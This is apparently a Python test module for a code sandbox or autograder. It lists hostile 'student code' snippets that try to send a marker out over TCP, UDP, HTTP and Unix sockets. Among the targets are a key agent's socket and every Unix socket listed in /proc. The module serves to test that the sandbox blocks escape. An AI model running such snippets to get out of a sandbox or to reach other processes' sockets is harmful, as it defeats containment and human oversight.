"""Anything that a student's code says to somebody outside."""

from functools import partial

from tests.hostile.attack import Attack
from tests.hostile.goals import heard


def _sends(family: str, kind: str, address: str) -> str:
    return (
        f"import socket\nouter = socket.socket(socket.{family}, socket.{kind})\nouter.settimeout(5)\n"
        f"outer.connect({address})\nouter.send(b'{{STUDENT}}')\nouter.close()"
    )


_CONNECTS = """
import urllib.request
urllib.request.urlopen("http://localhost:45450", data=b"{STUDENT}", timeout=5)
"""

_LISTED = """
import re, socket
for path in set(re.findall(r"(/\\S+)$", open("/proc/self/net/unix").read(), re.M)):
    try:
        with socket.socket(socket.AF_UNIX) as other:
            other.settimeout(5)
            other.connect(path)
            other.send(b"{STUDENT}")
    except OSError:
        pass
"""

_attack = partial(Attack, group="network", goal=heard, guards=("sandbox",))
ATTACKS = [
    _attack("tcp", about="A TCP connection.", code=_sends("AF_INET", "SOCK_STREAM", "('127.0.0.1', 45450)")),
    _attack("udp", about="A datagram.", code=_sends("AF_INET", "SOCK_DGRAM", "('127.0.0.1', 45450)")),
    _attack("http", about="A request of a web page.", code=_CONNECTS),
    _attack("abstract_socket", about="A Unix socket by name.", code=_sends("AF_UNIX", "SOCK_STREAM", "'\\0hostile'")),
    _attack(
        "socket_in_the_home",
        about="A Unix socket by path, such as the agent's that holds keys.",
        code=_sends("AF_UNIX", "SOCK_STREAM", "'{HOME}/agent.sock'"),
    ),
    _attack(
        "datagram_in_the_home",
        about="A datagram to a Unix socket by path, such as the machine's log.",
        code=_sends("AF_UNIX", "SOCK_DGRAM", "'{HOME}/log.sock'"),
    ),
    _attack(
        "datagram_of_a_pair",
        about="The same from a pair of sockets, which nobody has to connect.",
        code="import socket\nsocket.socketpair(type=socket.SOCK_DGRAM)[0].sendto(b'{STUDENT}', '{HOME}/log.sock')",
    ),
    _attack("neighbours_sockets", about="Every Unix socket that the system lists, others' kernels' too.", code=_LISTED),
]
